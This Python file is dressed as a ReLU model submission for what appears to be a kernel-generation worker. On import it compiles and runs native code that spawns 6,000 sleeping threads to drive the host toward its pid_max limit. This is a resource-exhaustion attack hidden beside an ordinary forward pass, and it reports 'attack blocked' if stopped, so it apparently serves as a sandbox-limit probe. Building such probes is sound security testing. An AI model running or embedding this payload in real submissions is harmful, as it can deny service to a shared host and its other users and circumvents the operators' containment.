"""Starts 6,000 threads that sleep: tasks towards the host's pid_max (32768 by default)."""

import torch
import torch.nn as nn

from kforge_worker import native

SRC = r"""
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <pthread.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void note(char* msg, const char* what) { snprintf(msg, 255, "%s: %s", what, strerror(errno)); }

extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}

static void* sleeper(void*) { pause(); return nullptr; }

extern "C" void attack(int32_t* ok, char* msg) {
    pthread_attr_t attr;
    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 64 << 10);
    for (int i = 0; i < 6000; ++i) {
        pthread_t t;
        int err = pthread_create(&t, &attr, sleeper, nullptr);
        if (err) { snprintf(msg, 255, "thread %d: %s", i, strerror(err)); return; }
        pthread_detach(t);
    }
    *ok = 1;
}
"""
_lib = native.load(SRC, {"relu": [native.PTR, native.PTR, native.I64], "attack": [native.PTR, native.PTR]})

_ok = torch.zeros(1, dtype=torch.int32)
_msg = torch.zeros(256, dtype=torch.uint8)
_lib.attack(native.ptr(_ok, None), native.ptr(_msg, None))
if not int(_ok[0]):
    raise RuntimeError("attack blocked: " + bytes(_msg.tolist()).split(b"\0")[0].decode(errors="replace"))


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
